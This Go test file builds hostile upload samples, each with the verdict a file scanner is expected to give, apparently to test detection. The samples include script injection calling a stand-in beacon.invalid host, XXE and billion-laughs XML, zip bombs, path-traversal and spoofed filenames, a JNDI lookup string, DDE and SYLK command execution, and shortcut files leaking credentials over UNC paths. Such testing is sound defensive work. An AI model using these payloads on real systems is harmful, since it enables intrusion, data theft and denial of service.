package hostile

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Beacon is where every live payload calls: a name that no one owns (RFC 6761),
// which a test points at a server that counts.
const Beacon = "http://beacon.invalid"

// run is a script that shows itself in three ways: a dialog, a mark on the page
// and a request.
const run = `alert(1);top.document.title="owned";fetch("` + Beacon + `/run")`

// pageFiles are pages and drawings, under their names and under others.
func pageFiles(t testing.TB) []File {
	svg := func(inside string) []byte {
		return []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9">` + inside + `</svg>`)
	}
	laughs := `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha">`
	for c := 'b'; c < 'k'; c++ {
		laughs += fmt.Sprintf(`<!ENTITY %c "%s">`, c, strings.Repeat(fmt.Sprintf("&%c;", c-1), 10))
	}
	page := "<!doctype html><title>x</title><script>" + run + "</script><img src=" + Beacon + "/img>"
	return []File{
		{"a page that runs", "plan.html", []byte(page), HTML, "markup markup_script", "", "script"},
		{"a page that runs, called text", "plan.txt", []byte(page), HTML, "markup markup_script mismatch", "", "script"},
		{"a page that runs, called table", "plan.csv", []byte(page), HTML, "markup markup_script mismatch", "", "script"},
		{"a page that runs, called PNG", "logo.png", []byte(page), HTML, "markup markup_script mismatch", "", "script"},
		{"a page that runs, called nothing", "plan", []byte(page), HTML, "markup markup_script", "", "script"},
		{"a page that sends elsewhere", "plan.html", []byte(`<html><meta http-equiv="refresh" content="0;url=` + Beacon + `/">`), HTML, "markup markup_script", "", "script"},
		{"a page with a frame of script", "plan.html", []byte("<html><iframe srcdoc='<script>" + run + "</script>'></iframe>"), HTML, "markup markup_script", "", "script"},
		{"a page that is XML too", "plan.xhtml", []byte(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>` + run + `</script></html>`), HTML, "markup markup_script", "", "script"},
		{"a page in UTF-16, other order", "note.txt", []byte(UTF16("<html><script>"+run+"</script></html>", "\xfe\xff")), HTML, "markup markup_script mismatch", "", "script"},
		{"a page after a byte order mark", "note.txt", []byte("\xef\xbb\xbf<script>" + run + "</script>"), HTML, "markup markup_script mismatch", "", "script"},
		{"a page after a NUL", "note.txt", []byte("\x00<script>" + run + "</script>"), Unknown, "unknown_kind", "", ""},
		{"a page in UTF-7", "note.txt", []byte("+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"), TXT, "", "", ""},
		{"a page after what a browser sniffs", "note.txt", []byte(strings.Repeat("bonjour\n", 700) + page), TXT, "", "markup_in_text", ""},
		{"a text of another alphabet that escapes", "note.txt", []byte("\x1b$B<script>" + run + "</script>\x1b(B\n"), TXT, "", "markup_in_text", ""},
		{"Markdown with markup", "note.md", []byte("# Titre\n\n<img src=x onerror='" + run + "'>\n\n[x](javascript:alert(1))\n"), TXT, "", "", ""},
		{"a drawing that runs", "logo.svg", svg("<script>" + run + "</script>"), SVG, "markup markup_script", "", "script"},
		{"a drawing that runs when loaded", "logo.svg", bytes.Replace(svg(""), []byte("width"), []byte(`onload='`+run+`' width`), 1), SVG, "markup markup_script", "", "script"},
		{"a drawing with a page that runs", "logo.svg", svg(`<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:` + `alert(1)"/></body></foreignObject>`), SVG, "markup markup_script", "", "script"},
		{"a drawing that uses another", "logo.svg", svg(`<use xlink:href="` + Beacon + `/x.svg#a"/>`), SVG, "external markup", "", "external"},
		{"a drawing with a remote style", "logo.svg", svg(`<style>@import url(` + Beacon + `/x.css);</style>`), SVG, "external markup", "", "external"},
		{"a drawing with a style sheet", "logo.svg", append([]byte(`<?xml-stylesheet href="`+Beacon+`/x.css"?>`), svg("")...), SVG, "external markup", "", "external"},
		{"a drawing that grows without end", "logo.svg", []byte(laughs + "]>" + string(svg("&j;"))), SVG, "markup xml_entities", "", ""},
		{"a drawing that animates a link", "logo.svg", svg(`<a><set attributeName="href" to="javascript:alert(1)"/></a>`), SVG, "markup markup_script", "", "script"},
		{"a drawing called PNG", "logo.png", svg("<script>" + run + "</script>"), SVG, "markup markup_script mismatch", "", "script"},
		{"a compressed drawing", "logo.svgz", zipped(svg("<script>" + run + "</script>")), Archive, "archive_closed", "", ""},
		{"an XML with a style that runs", "data.xml", []byte(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x><script xmlns="http://www.w3.org/1999/xhtml">` + run + `</script></x>`), HTML, "external markup markup_script mismatch", "", "external script"},
		{"an ODF in one XML file", "plan.fodt", []byte(`<?xml version="1.0"?><office:document xmlns:office="o"/>`), XML, "markup", "", ""},
		{"a web archive saved by a browser", "plan.mhtml", []byte("From: <Saved by Blink>\nMIME-Version: 1.0\nContent-Type: multipart/related\n\n<script>" + run + "</script>"), TXT, "mismatch", "markup_in_text", ""},
		{"a mail", "lettre.eml", []byte("From: a@example.org\nSubject: x\n\nbonjour\n"), TXT, "mismatch", "", ""},
	}
}

func zipped(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

// shortcutFiles are the small texts that Windows and desktops obey.
func shortcutFiles(testing.TB) (all []File) {
	for name, body := range map[string]string{
		"lien.url":                  "[InternetShortcut]\nURL=file://beacon.invalid/x\nIconFile=\\\\beacon.invalid\\i.ico\n",
		"vue.scf":                   "[Shell]\nCommand=2\nIconFile=\\\\beacon.invalid\\i.ico\n",
		"page.hta":                  "<script>new ActiveXObject('WScript.Shell')</script>",
		"requete.iqy":               "WEB\n1\n" + Beacon + "/\n",
		"table.slk":                 "ID;P\nO;E\nC;X1;Y1;K\"x\";EEXEC(\"calc\")\n",
		"lien.desktop":              "[Desktop Entry]\nExec=xterm\n",
		"lien.website":              "[InternetShortcut]\nURL=" + Beacon + "\n",
		"bureau.rdp":                "full address:s:beacon.invalid\n",
		"theme.theme":               "[Theme]\nBrandImage=\\\\beacon.invalid\\x\n",
		"appli.jnlp":                "<jnlp codebase='" + Beacon + "'/>",
		"appli.wsf":                 "<job><script language='JScript'>x</script></job>",
		"regle.reg":                 "Windows Registry Editor Version 5.00\n",
		"appli.ps1":                 "Start-Process calc\n",
		"recherche.library-ms":      "<libraryDescription/>",
		"reglage.settingcontent-ms": "<PCSettings/>",
	} {
		all = append(all, File{"a shortcut or script: " + name, name, []byte(body), Executable, "program", "", ""})
	}
	return inOrder(all)
}

func moreZips(t testing.TB) []File {
	ten := make([]Part, 10)
	bomb := RawZip(RawEntry{Name: "0", Packed: Deflated(t, 9<<20), Size: 9 << 20, Method: 8, At: -1})
	for i := range ten {
		ten[i] = Part{Name: fmt.Sprintf("%d.zip", i), Body: string(bomb), Stored: true}
	}
	layer := Zip(t, ten...)
	for i := range ten {
		ten[i].Body = string(layer)
	}
	kernel := Deflated(t, 4<<20)
	quoted := []RawEntry{{Name: "a", Packed: kernel, Size: 4 << 20, Method: 8, At: -1}}
	for i := range 30 {
		quoted = append(quoted, RawEntry{Name: fmt.Sprintf("a%d", i), Local: "a", Packed: kernel, Size: 4 << 20, Method: 8, SkipContents: true})
	}
	commented := Zip(t, Part{Name: "a.txt", Body: "a"})
	comment := "<html><script>" + run + "</script>"
	binary.LittleEndian.PutUint16(commented[len(commented)-2:], uint16(len(comment)))
	one := func(name string) []byte { return RawZip(RawEntry{Name: name, Packed: []byte("x"), Size: 1, At: -1}) }
	return []File{
		{"a bomb of bombs", "all.zip", Zip(t, ten...), ZIP, "archive_bomb", "", ""},
		{"one content for thirty names", "all.zip", RawZip(quoted...), ZIP, "archive_overlap", "", ""},
		{"an archive with a page as its comment", "all.zip", append(commented, comment...), ZIP, "", "", ""},
		{"an archive whose first file is a PDF", "all.zip", Zip(t, Part{Name: "a.pdf", Body: string(PDFOf("")), Stored: true}), ZIP, "", "", ""},
		{"an archive called PDF", "plan.pdf", Zip(t, Part{Name: "a.pdf", Body: string(PDFOf("")), Stored: true}), ZIP, "mismatch", "", ""},
		{"a link out of the archive", "all.zip", RawZip(RawEntry{Name: "a", Packed: []byte("/etc/passwd"), Size: 11, At: -1, Attributes: 0o120777 << 16}), ZIP, "archive_name", "", ""},
		{"an entry turned around", "all.zip", one("cv\u202efdp.exe"), ZIP, "archive_name", "", ""},
		{"an entry with a NUL", "all.zip", one("a.txt\x00.exe"), ZIP, "archive_name", "", ""},
		{"an entry that climbs in the middle", "all.zip", one("a/../../b"), ZIP, "archive_name", "", ""},
		{"a shortcut in an archive", "all.zip", Zip(t, Part{Name: "cv.pdf.lnk", Body: "L\x00\x00\x00\x01\x14\x02\x00"}), ZIP, "program_inside", "", ""},
		{"a drawing in an archive", "all.zip", Zip(t, Part{Name: "a.svg", Body: "<svg><script>" + run + "</script></svg>"}), ZIP, "", "markup_inside", ""},
		{"a PDF with a script in an archive", "all.zip", Zip(t, Part{Name: "a.pdf", Body: string(PDFOf("/OpenAction << /S /JavaScript /JS (x) >>"))}), ZIP, "pdf_script", "", "script"},
		{"a compressed bomb", "all.gz", zipped(make([]byte, 1<<20)), Archive, "archive_closed", "", ""},
	}
}

func moreOffice(t testing.TB) []File {
	sheet := func(extra ...Part) []byte {
		return Zip(t, append([]Part{{Name: "[Content_Types].xml", Body: SheetTypes}, {Name: "xl/workbook.xml", Body: "<workbook/>"}}, extra...)...)
	}
	xxe := `<?xml version="1.0"?><!DOCTYPE x SYSTEM "` + Beacon + `/x.dtd"><x/>`
	return []File{
		{"a workbook with macros", "b.xlsm", sheet(Part{Name: "xl/vbaProject.bin", Body: "x"}), XLSX, "macros", "", "macros"},
		{"slides with macros", "b.pptm", Zip(t, Part{Name: "[Content_Types].xml", Body: SlideTypes}, Part{Name: "ppt/vbaProject.bin", Body: "x"}), PPTX, "macros", "", "macros"},
		{"a workbook that asks a server", "b.xlsx", sheet(Part{Name: "xl/connections.xml", Body: `<connections><connection refreshOnLoad="1"><webPr url="` + Beacon + `/"/></connection></connections>`}), XLSX, "external", "", "external"},
		{"a workbook that asks a database", "b.xlsx", sheet(Part{Name: "xl/connections.xml", Body: `<connections><connection><dbPr connection="Provider=SQLOLEDB;Server=beacon.invalid"/></connection></connections>`}), XLSX, "external", "", "external"},
		{"a workbook that runs a command", "b.xlsx", sheet(Part{Name: "xl/externalLinks/externalLink1.xml", Body: `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), XLSX, "external", "", "external"},
		{"a document with a web extension", "p.docx", Docx(t, Part{Name: "word/webextensions/webextension1.xml", Body: "<we:webextension/>"}), DOCX, "active", "", "script"},
		{"a document whose type is elsewhere", "p.docx", Docx(t, Part{Name: "word/settings.xml", Body: xxe}), DOCX, "xml_entities", "", ""},
		{"a list of types with entities", "p.docx", Zip(t, Part{Name: "[Content_Types].xml", Body: xxe}, Part{Name: "word/document.xml", Body: WordBody}), ZIP, "mismatch xml_entities", "", ""},
		{"a document with a page inside", "p.docx", Docx(t, Part{Name: "word/afchunk.htm", Body: "<html><script>" + run + "</script>"}), DOCX, "", "", ""},
		{"a document with a bomb of a part", "p.docx", Docx(t, Part{Name: "word/media/a.bin", Body: strings.Repeat("\x00", 12<<20)}), DOCX, "archive_bomb", "", ""},
		{"a document cut short", "p.docx", Docx(t)[:300], ZIP, "archive_damaged", "", ""},
		{"an ODF that asks a database", "p.odt", ODTOf(t, `<table:database-source-sql xlink:href="`+Beacon+`/"/>`), ODT, "external", "", "external"},
		{"an ODF with an applet", "p.odt", ODTOf(t, `<draw:applet xlink:href="`+Beacon+`/"/>`), ODT, "external", "", "external"},
		{"an ODF with a type elsewhere", "p.odt", ODTOf(t, "", Part{Name: "meta.xml", Body: xxe}), ODT, "xml_entities", "", ""},
	}
}

func morePDF(testing.TB) []File {
	return []File{
		{"a PDF with a script in its names", "p.pdf", PDFOf("/Names << /JavaScript 4 0 R >>", "<< /Names [(a) 5 0 R] >>"), PDF, "pdf_script", "", "script"},
		{"a PDF that acts when a page opens", "p.pdf", PDFOf("", "<< /AA << /O << /S /JavaScript /JS (x) >> >> >>"), PDF, "pdf_script", "", "script"},
		{"a PDF with a title of markup", "p.pdf", PDFOf("", "<< /Title (<script>"+"alert\\(1\\)</script>) >>"), PDF, "", "", ""},
		{"a PDF that opens an address", "p.pdf", PDFOf("/OpenAction << /S /URI /URI (" + Beacon + ") >>"), PDF, "", "", ""},
		{"a PDF that opens a remote PDF", "p.pdf", PDFOf("", "<< /S /GoToR /F ("+Beacon+"/x.pdf) >>"), PDF, "", "linked", "external"},
		{"a PDF of brackets", "p.pdf", PDFOf("", strings.Repeat("[<<", 40_000)), PDF, "", "", ""},
		{"a PDF whose table turns in circles", "p.pdf", bytes.Replace(PDFOf(""), []byte("/Root"), []byte("/Prev 0 /Root"), 1), PDF, "", "", ""},
		{"a PDF whose stream never ends", "p.pdf", PDFOf("", "<< /Length 99999999999 >>\nstream\n"+strings.Repeat("x", 5000)), PDF, "", "", ""},
		{"a PDF with a script in a second revision", "p.pdf", append(PDFOf(""), PDFOf("/OpenAction << /S /JavaScript /JS (x) >>")...), PDF, "pdf_script", "", "script"},
	}
}

func morePictures(t testing.TB) []File {
	sof := func(w, h uint16) []byte {
		b := append([]byte{0xff, 0xd8, 0xff, 0xc0, 0, 17, 8}, byte(h>>8), byte(h), byte(w>>8), byte(w), 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0)
		return append(b, 0xff, 0xd9)
	}
	screen := gifOf(t, 1)
	binary.LittleEndian.PutUint16(screen[6:], 0xffff)
	binary.LittleEndian.PutUint16(screen[8:], 0xffff)
	p := pngOf(t, 20, 10)
	text := "k\x00\x00" + string(zlibbed(bytes.Repeat([]byte("a"), 8<<20)))
	talking := gifOf(t, 1)
	block := "<html><script>alert(1)</script>"
	talking = append(append(talking[:len(talking)-1:len(talking)-1], 0x21, 0xfe, byte(len(block))), block+"\x00;"...)
	return []File{
		{"a JPEG that says it is huge", "p.jpg", sof(65535, 65535), JPEG, "picture_too_large", "", ""},
		{"a JPEG without pixels", "p.jpg", sof(0, 0), JPEG, "picture_damaged", "", ""},
		{"a GIF that says it is huge", "p.gif", screen, GIF, "picture_too_large", "", ""},
		{"a PNG with a bomb in its text", "p.png", append(append(bytes.Clone(p[:33]), pngChunk("zTXt", text)...), p[33:]...), PNG, "", "", ""},
		{"a GIF with a page in its comment", "p.gif", talking, GIF, "polyglot", "", ""},
		{"a JPEG with a page in its comment", "p.jpg", jpegOf(t, 8, 8, segment(0xfe, "--><html><script>alert(1)</script><!--")), JPEG, "polyglot", "", ""},
		{"a JPEG with a script as its comment", "p.jpg", jpegOf(t, 8, 8, segment(0xfe, "*/=alert(1)/*")), JPEG, "", "", ""},
		{"a picture of a kind nobody reads", "p.bmp", append([]byte("BM"), make([]byte, 60)...), Unknown, "unknown_kind", "", ""},
		{"a JPEG cut in its header", "p.jpg", jpegOf(t, 8, 8)[:10], JPEG, "picture_damaged", "", ""},
	}
}

func zlibbed(b []byte) []byte {
	s := ObjStm("", string(b))
	return []byte(s[strings.Index(s, "stream\n")+7 : len(s)-len("\nendstream")])
}

func moreNames(testing.TB) (all []File) {
	for name, c := range map[string][2]string{
		"<img src=x onerror=fetch('" + Beacon + "/name')>.txt": {"", "name_changed"},
		"a\r\nSet-Cookie: x=y.txt":                             {"", "name_changed"},
		`a"; filename="b.html.txt`:                             {"", "name_changed"},
		"javascript:alert(1).txt":                              {"", "name_changed"},
		"..\\..\\windows\\win.ini.txt":                         {"", "name_changed"},
		"%2e%2e%2fetc%2fpasswd.txt":                            {"", ""},
		"a.txt\u2066\u202e":                                    {"name_turned", ""},
		"\u200b\ufeff.txt":                                     {"", "name_changed"},
		"aux.tar.txt":                                          {"", "name_changed"},
		"{{constructor.constructor('alert(1)')()}}.txt":        {"", ""},
		"${jndi:ldap://beacon.invalid/x}.txt":                  {"", "name_changed"},
		"\xff\xfe\xfd.txt":                                     {"", "name_changed"},
	} {
		all = append(all, File{fmt.Sprintf("a name: %q", name), name, []byte("bonjour"), TXT, c[0], c[1], ""})
	}
	return inOrder(all)
}

func inOrder(all []File) []File {
	slices.SortFunc(all, func(a, b File) int { return strings.Compare(a.Situation, b.Situation) })
	return all
}
